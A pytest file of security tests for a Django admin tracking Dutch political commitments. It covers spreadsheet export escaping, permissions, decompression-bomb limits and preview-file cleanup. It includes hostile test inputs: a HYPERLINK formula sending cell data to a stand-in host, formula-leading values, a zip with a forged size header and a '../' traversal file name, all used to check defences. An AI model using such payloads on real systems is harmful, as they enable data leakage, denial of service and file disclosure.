"""Issue 16, the admin's part: spreadsheet exports that run nothing, the review page behind its
permission, the status permission on every path that publishes or moves a deadline, and sheets that
cannot unfold without bound or leave files behind."""

import csv
import datetime
import io
import os
import struct
import tempfile
import time
import zipfile

import openpyxl
import pytest
from django.contrib.auth.models import Group, Permission
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse

from tests.factories import COLUMNS, ROW, csv_format_index, sheet
from tracker.exchange import spreadsheets
from tracker.models import Commitment, CommitmentEvent, Person

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("https://example.invalid/?x="&A1,"Klik hier")'


@pytest.fixture
def limited(django_user_model, seed):
    """Staff with every clerk's permission except changing status."""
    user = django_user_model.objects.create_user("medewerker", password="x", is_staff=True)
    user.user_permissions.add(
        *Group.objects.get(name="Griffie").permissions.exclude(codename="change_commitment_status")
    )
    return user


@pytest.fixture
def previews(tmp_path, monkeypatch):
    """The temporary directory of this test alone: what a preview leaves behind shows up here."""
    monkeypatch.setattr(tempfile, "tempdir", str(tmp_path))
    return tmp_path


def leftovers(root) -> list[str]:
    return sorted(str(p.relative_to(root)) for p in root.rglob("*") if p.is_file())


def xlsx_format_index(client, url):
    form = client.get(url).context["form"]
    return next(i for i, label in form.fields["format"].choices if str(label).lower() == "xlsx")


def export(client, model, fmt_name):
    url = reverse(f"admin:tracker_{model}_export")
    form = client.get(url).context["form"]
    fmt = next(i for i, label in form.fields["format"].choices if str(label).lower() == fmt_name)
    fields = [name for name in form.fields if name.startswith(f"{model}resource_")]
    response = client.post(url, {"format": fmt, **{name: "on" for name in fields}})
    assert response.status_code == 200
    return response


def import_preview(client, upload, model="commitment"):
    url = reverse(f"admin:tracker_{model}_import")
    fmt = (xlsx_format_index if upload.name.endswith(".xlsx") else csv_format_index)(client, url)
    return client.post(url, {"format": fmt, "import_file": upload})


# --- 5. the admin export neutralises formulas and control characters ---------------------------------


@pytest.fixture
def hostile(seed):
    Commitment.objects.filter(reference="TZ-2026-0001").update(quote=HYPERLINK, summary="  +SUM(1;2)")
    Commitment.objects.filter(reference="TZ-2026-0002").update(quote="Ik zal de lijst\x0cbezorgen.\x07\x1b\uffff")
    Person.objects.filter(slug="vandromme").update(full_name="@Vandromme\x0c", party="-1+1")


def test_admin_xlsx_export_holds_no_formula_and_opens(clerk_client, hostile):
    for model in ("commitment", "person"):
        response = export(clerk_client, model, "xlsx")
        book = openpyxl.load_workbook(io.BytesIO(response.content))  # the file opens
        cells = [cell for row in book.active.iter_rows() for cell in row]
        assert cells
        assert [c.coordinate for c in cells if c.data_type == "f"] == []
        texts = [c.value for c in cells if isinstance(c.value, str)]
        assert not any(t.lstrip().startswith(("=", "+", "-", "@")) for t in texts), texts
        assert not any(ch in t for t in texts for ch in "\x0c\x07\x1b\uffff")
    book = openpyxl.load_workbook(io.BytesIO(export(clerk_client, "commitment", "xlsx").content))
    rows = list(book.active.iter_rows(values_only=True))
    quotes = {r[0]: r[rows[0].index("quote")] for r in rows[1:]}
    assert quotes == {"TZ-2026-0001": "'" + HYPERLINK, "TZ-2026-0002": "Ik zal de lijstbezorgen."}


@pytest.mark.parametrize("char", [chr(c) for c in [*range(0x20), 0x7F, 0xFFFE, 0xFFFF]])
def test_every_control_character_leaves_an_exported_cell(char):
    kept = {"\t": "a\tb", "\n": "a\nb", "\r": "a\nb"}  # a carriage return becomes a line break
    assert spreadsheets.cell_clean(f"a{char}b") == kept.get(char, "ab")
    assert spreadsheets.cell_clean(f"{char}=1+1").startswith("'")  # and never a formula


def test_admin_csv_export_is_escaped_as_the_public_csv(clerk_client, hostile):
    content = export(clerk_client, "commitment", "csv").content.decode("utf-8-sig")
    rows = {r["reference"]: r for r in csv.DictReader(io.StringIO(content))}
    assert rows["TZ-2026-0001"]["quote"] == "'" + HYPERLINK
    assert rows["TZ-2026-0001"]["summary"] == "'  +SUM(1;2)"
    assert rows["TZ-2026-0002"]["quote"] == "Ik zal de lijstbezorgen."
    people = export(clerk_client, "person", "csv").content.decode("utf-8-sig")
    person = next(r for r in csv.DictReader(io.StringIO(people)) if r["slug"] == "vandromme")
    assert (person["full_name"], person["party"]) == ("'@Vandromme", "'-1+1")


def test_an_exported_sheet_imports_back_without_changes(clerk_client, hostile):
    """The neutralising apostrophe is taken off again on import: a round trip changes no quote."""
    exported = export(clerk_client, "commitment", "xlsx").content
    events = CommitmentEvent.objects.count()
    preview = import_preview(clerk_client, SimpleUploadedFile("terug.xlsx", exported))
    assert preview.context.get("confirm_form") is not None, preview.content.decode()[-3000:]
    clerk_client.post(reverse("admin:tracker_commitment_process_import"), preview.context["confirm_form"].initial)
    assert Commitment.objects.get(reference="TZ-2026-0001").quote == HYPERLINK
    assert CommitmentEvent.objects.count() == events


# --- 6. the review page needs the view permission ----------------------------------------------------


def test_review_page_refuses_staff_without_view_permission(client, django_user_model, seed):
    proposal = Commitment.objects.get(reference="TZ-2026-0002")
    proposal.pk, proposal.reference, proposal.status = None, "TZ-2026-0003", "candidate"
    proposal.save()
    url = reverse("admin:tracker_reviewitem_change", args=[proposal.pk])
    nobody = django_user_model.objects.create_user("bezoeker", password="x", is_staff=True)
    nobody.user_permissions.add(*Permission.objects.filter(codename__in=["view_commitment", "view_person"]))
    client.force_login(nobody)
    response = client.get(url)
    assert response.status_code == 403
    assert proposal.quote not in response.content.decode()
    assert client.post(url, {"note": "x", "reject": "1"}).status_code == 403

    nobody.user_permissions.add(Permission.objects.get(codename="view_reviewitem"))
    nobody = django_user_model.objects.get(pk=nobody.pk)  # permissions are cached per user object
    client.force_login(nobody)
    assert client.get(url).status_code == 200


# --- 7. the status permission governs publishing and deadlines -----------------------------------------


def add_data(**extra):
    return {
        "question": Commitment.objects.get(reference="TZ-2026-0001").question_id,
        "quote": "Ik bezorg u de cijfers.",
        "kind": "send_document",
        "summary": "",
        "promised_by_function": "",
        "due_text": "",
        "events-TOTAL_FORMS": "0",
        "events-INITIAL_FORMS": "0",
        "links_out-TOTAL_FORMS": "0",
        "links_out-INITIAL_FORMS": "0",
        **extra,
    }


def test_without_the_status_permission_a_commitment_is_added_only_as_a_proposal(client, limited):
    client.force_login(limited)
    url = reverse("admin:tracker_commitment_add")
    form = client.get(url).context["adminform"].form
    assert [value for value, _ in form.fields["status"].choices] == ["candidate"]
    response = client.post(url, add_data(status="open", due_date="2021-06-30"))
    assert response.status_code == 200  # the form refuses the choice
    assert not Commitment.objects.filter(quote="Ik bezorg u de cijfers.").exists()

    response = client.post(url, add_data(status="candidate"))
    assert response.status_code == 302
    assert Commitment.objects.get(quote="Ik bezorg u de cijfers.").status == "candidate"


def test_with_the_status_permission_a_commitment_may_be_added_as_open(clerk_client, seed):
    response = clerk_client.post(reverse("admin:tracker_commitment_add"), add_data(status="open"))
    assert response.status_code == 302
    assert Commitment.objects.get(quote="Ik bezorg u de cijfers.").status == "open"


def registered_row(**changes):
    existing = Commitment.objects.get(reference="TZ-2026-0001")
    return {
        **{c: "" for c in COLUMNS},
        "reference": existing.reference,
        "question": "vergadering-maatwerkbedrijven/1",
        "quote": existing.quote,
        "kind": existing.kind,
        "promised_by": existing.promised_by.slug if existing.promised_by else "",
        "promised_by_function": existing.promised_by_function,
        "promised_to": ",".join(existing.promised_to.values_list("slug", flat=True)),
        "to_committee": "1" if existing.to_committee else "0",
        "due_text": existing.due_text,
        **changes,
    }


# The seed's TZ-2026-0001 stated no deadline: it has the standard term (three months after registration).
SEED_DEADLINE = datetime.date(2027, 2, 26)


def test_sheet_cannot_change_a_deadline_without_the_status_permission(client, limited):
    client.force_login(limited)
    response = import_preview(client, sheet([registered_row(due_date="2031-01-01")]))
    page = response.content.decode()
    assert response.context.get("confirm_form") is None
    assert "TZ-2026-0001: alleen wie de status van toezeggingen mag wijzigen, kan de termijn wijzigen." in page
    assert Commitment.objects.get(reference="TZ-2026-0001").due_date == SEED_DEADLINE


def test_sheet_cannot_rewrite_a_registered_quote(clerk_client, seed):
    response = import_preview(clerk_client, sheet([registered_row(quote="Ik beloof niets.")]))
    page = response.content.decode()
    assert response.context.get("confirm_form") is None
    assert "TZ-2026-0001 is geregistreerd: het letterlijke citaat kan niet via een spreadsheet" in page
    assert Commitment.objects.get(reference="TZ-2026-0001").quote != "Ik beloof niets."


def test_sheet_changes_a_deadline_through_the_workflow_for_a_clerk_with_the_permission(clerk_client, seed, clerk):
    preview = import_preview(clerk_client, sheet([registered_row(due_date="2031-01-01", summary="Nieuw")]))
    assert preview.context.get("confirm_form") is not None, preview.content.decode()[-3000:]
    assert Commitment.objects.get(reference="TZ-2026-0001").due_date == SEED_DEADLINE  # the preview wrote nothing
    clerk_client.post(reverse("admin:tracker_commitment_process_import"), preview.context["confirm_form"].initial)
    commitment = Commitment.objects.get(reference="TZ-2026-0001")
    assert (commitment.due_date, commitment.due_is_default, commitment.summary) == (
        datetime.date(2031, 1, 1),
        False,
        "Nieuw",
    )
    event = commitment.events.get(kind="due_date")
    assert (event.old_due_date, event.new_due_date, event.actor) == (SEED_DEADLINE, datetime.date(2031, 1, 1), clerk)


def test_a_proposal_may_still_be_corrected_by_sheet(client, limited):
    proposal = Commitment.objects.get(reference="TZ-2026-0002")
    proposal.pk, proposal.reference, proposal.status = None, "TZ-2026-0003", "candidate"
    proposal.save()
    client.force_login(limited)
    row = {**ROW, "reference": "TZ-2026-0003", "quote": "Dat doen we zeker, voor juni.", "due_date": "2021-06-30"}
    preview = import_preview(client, sheet([row]))
    assert preview.context.get("confirm_form") is not None, preview.content.decode()[-3000:]
    client.post(reverse("admin:tracker_commitment_process_import"), preview.context["confirm_form"].initial)
    proposal.refresh_from_db()
    assert (proposal.status, proposal.quote, proposal.due_date) == (
        "candidate",
        "Dat doen we zeker, voor juni.",
        datetime.date(2021, 6, 30),
    )


# --- 10. spreadsheet bombs and the files previews leave ----------------------------------------------


def xlsx_bytes(rows) -> bytes:
    book = openpyxl.Workbook()
    for row in rows:
        book.active.append(row)
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def shared_strings_xlsx(rows) -> bytes:
    """A minimal XLSX whose text lives in xl/sharedStrings.xml, as Excel writes it."""
    strings = [str(v) for row in rows for v in row]
    index = {text: i for i, text in enumerate(dict.fromkeys(strings))}
    cells = "".join(
        f'<row r="{r}">'
        + "".join(
            f'<c r="{openpyxl.utils.get_column_letter(c)}{r}" t="s"><v>{index[str(v)]}</v></c>'
            for c, v in enumerate(row, 1)
        )
        + "</row>"
        for r, row in enumerate(rows, 1)
    )
    main = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
    rel = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    parts = {
        "[Content_Types].xml": (
            '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
            '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
            '<Default Extension="xml" ContentType="application/xml"/>'
            '<Override PartName="/xl/workbook.xml" '
            'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>'
            '<Override PartName="/xl/worksheets/sheet1.xml" '
            'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/>'
            '<Override PartName="/xl/sharedStrings.xml" '
            'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"/>'
            "</Types>"
        ),
        "_rels/.rels": (
            '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
            f'<Relationship Id="rId1" Type="{rel}/officeDocument" Target="xl/workbook.xml"/></Relationships>'
        ),
        "xl/workbook.xml": (
            f'<workbook xmlns="{main}" xmlns:r="{rel}"><sheets>'
            '<sheet name="Blad1" sheetId="1" r:id="rId1"/></sheets></workbook>'
        ),
        "xl/_rels/workbook.xml.rels": (
            '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
            f'<Relationship Id="rId1" Type="{rel}/worksheet" Target="worksheets/sheet1.xml"/>'
            f'<Relationship Id="rId2" Type="{rel}/sharedStrings" Target="sharedStrings.xml"/></Relationships>'
        ),
        "xl/worksheets/sheet1.xml": f'<worksheet xmlns="{main}"><sheetData>{cells}</sheetData></worksheet>',
        "xl/sharedStrings.xml": f'<sst xmlns="{main}">'
        + "".join(f"<si><t>{text}</t></si>" for text in index)
        + "</sst>",
    }
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, text in parts.items():
            archive.writestr(name, text)
    return out.getvalue()


def test_the_crafted_sheet_is_a_real_xlsx():
    book = openpyxl.load_workbook(io.BytesIO(shared_strings_xlsx([["reference", "quote"], ["TZ-1", "Ik kom"]])))
    assert list(book.active.iter_rows(values_only=True)) == [("reference", "quote"), ("TZ-1", "Ik kom")]


def declare_size(data: bytes, member: str, size: int) -> bytes:
    """The same archive, with the member claiming `size` unpacked bytes in both of its zip headers."""
    raw = bytearray(data)
    info = zipfile.ZipFile(io.BytesIO(data)).getinfo(member)
    assert raw[info.header_offset : info.header_offset + 4] == b"PK\x03\x04"
    struct.pack_into("<I", raw, info.header_offset + 22, size)
    central = raw.find(b"PK\x01\x02")
    while central != -1:
        name_length = struct.unpack_from("<H", raw, central + 28)[0]
        if raw[central + 46 : central + 46 + name_length] == member.encode():
            struct.pack_into("<I", raw, central + 24, size)
            return bytes(raw)
        central = raw.find(b"PK\x01\x02", central + 4)
    raise AssertionError(f"{member} not in the central directory")


def test_xlsx_whose_shared_strings_claim_a_huge_size_is_refused_unread(clerk_client, seed, previews, monkeypatch):
    bomb = declare_size(
        shared_strings_xlsx([COLUMNS, ["TZ-2021-0100", "x/1", "Ik kom daarop terug."]]),
        "xl/sharedStrings.xml",
        3_000_000_000,
    )
    assert len(bomb) < 10_000
    opened = []
    monkeypatch.setattr(openpyxl, "load_workbook", lambda *a, **k: opened.append(a) or pytest.fail("opened"))
    response = import_preview(clerk_client, SimpleUploadedFile("bom.xlsx", bomb))
    page = response.content.decode()
    assert "Dit XLSX-bestand pakt uit tot 3.000.00" in page and "Splits het blad." in page
    assert response.context.get("confirm_form") is None
    assert opened == []
    assert leftovers(previews) == []


def test_xlsx_that_really_unpacks_beyond_the_limit_is_refused(clerk_client, seed, previews, monkeypatch):
    monkeypatch.setattr(spreadsheets, "MAX_XLSX_UNCOMPRESSED_BYTES", 1_000_000)
    bomb = shared_strings_xlsx([COLUMNS[:3], ["TZ-2021-0100", "x/1", "a" * 1_500_000]])
    assert len(bomb) < 50_000
    response = import_preview(clerk_client, SimpleUploadedFile("bom.xlsx", bomb))
    assert "Splits het blad" in response.content.decode()
    assert leftovers(previews) == []


@pytest.mark.parametrize(
    ("limit", "value", "rows", "message"),
    [
        ("MAX_SPREADSHEET_ROWS", 3, 5, "meer dan 3 rijen"),
        ("MAX_CELL_CHARS", 50, 1, "hoogstens 50"),
        ("MAX_SPREADSHEET_CHARS", 100, 3, "meer dan 100 tekens"),
        ("MAX_SPREADSHEET_CELLS", 40, 5, "meer dan 40 cellen"),
    ],
)
@pytest.mark.parametrize("kind", ["csv", "xlsx"])
def test_sheet_limits(clerk_client, seed, previews, monkeypatch, limit, value, rows, message, kind):
    monkeypatch.setattr(spreadsheets, limit, value)
    data = [{**ROW, "reference": f"TZ-2021-{100 + i:04d}", "quote": "Ik kom daarop terug. " * 3} for i in range(rows)]
    upload = (
        sheet(data)
        if kind == "csv"
        else SimpleUploadedFile("t.xlsx", xlsx_bytes([COLUMNS, *[[r.get(c, "") for c in COLUMNS] for r in data]]))
    )
    response = import_preview(clerk_client, upload)
    assert message in response.content.decode()
    assert response.context.get("confirm_form") is None
    assert leftovers(previews) == []


def test_empty_cells_of_a_sheet_that_claims_to_be_wide_count(clerk_client, seed, previews, monkeypatch):
    monkeypatch.setattr(spreadsheets, "MAX_SPREADSHEET_CELLS", 1_000)
    book = openpyxl.Workbook()
    book.active.append(COLUMNS)
    book.active["ZZ5000"] = "x"  # one value far away: millions of empty cells to read
    out = io.BytesIO()
    book.save(out)
    started = time.monotonic()
    response = import_preview(clerk_client, SimpleUploadedFile("breed.xlsx", out.getvalue()))
    assert "meer dan 1000 cellen" in response.content.decode().replace(".", "")
    assert time.monotonic() - started < 10
    assert leftovers(previews) == []


def test_every_preview_leaves_no_file(clerk_client, seed, previews):
    # Rows in error: nothing can be confirmed, nothing is kept.
    bad = import_preview(clerk_client, sheet([{**ROW, "question": "bestaat-niet/1"}]))
    assert bad.context.get("confirm_form") is None
    assert leftovers(previews) == []

    # Confirmed: the file goes with the import.
    preview = import_preview(clerk_client, sheet([ROW]))
    assert len(leftovers(previews)) == 1
    clerk_client.post(reverse("admin:tracker_commitment_process_import"), preview.context["confirm_form"].initial)
    assert Commitment.objects.filter(reference="TZ-2021-0100").exists()
    assert leftovers(previews) == []

    # Never confirmed: removed once it is older than the limit, at the next import.
    preview = import_preview(clerk_client, sheet([{**ROW, "reference": "TZ-2021-0101"}]))
    [left] = list(previews.rglob("*.sheet"))
    old = time.time() - spreadsheets.PREVIEW_MAX_AGE_SECONDS - 60
    os.utime(left, (old, old))
    clerk_client.get(reverse("admin:tracker_commitment_import"))
    assert leftovers(previews) == []

    # Confirming it afterwards is a clear message, not an error page, and writes nothing.
    response = clerk_client.post(
        reverse("admin:tracker_commitment_process_import"), preview.context["confirm_form"].initial, follow=True
    )
    assert response.status_code == 200
    assert "verlopen" in response.content.decode()
    assert not Commitment.objects.filter(reference="TZ-2021-0101").exists()


def test_confirmation_reads_only_preview_files(clerk_client, seed, previews):
    """The file name comes back from the browser: it names a preview, never another file."""
    secret = previews / "geheim.csv"
    secret.write_text(",".join(COLUMNS) + "\n" + ",".join(ROW.get(c, "") for c in COLUMNS) + "\n")
    url = reverse("admin:tracker_commitment_import")
    data = {
        "import_file_name": "../geheim.csv",
        "original_file_name": "geheim.csv",
        "format": csv_format_index(clerk_client, url),
        "resource": "",
    }
    response = clerk_client.post(reverse("admin:tracker_commitment_process_import"), data, follow=True)
    assert response.status_code == 200
    assert not Commitment.objects.filter(reference="TZ-2021-0100").exists()
    assert secret.exists()
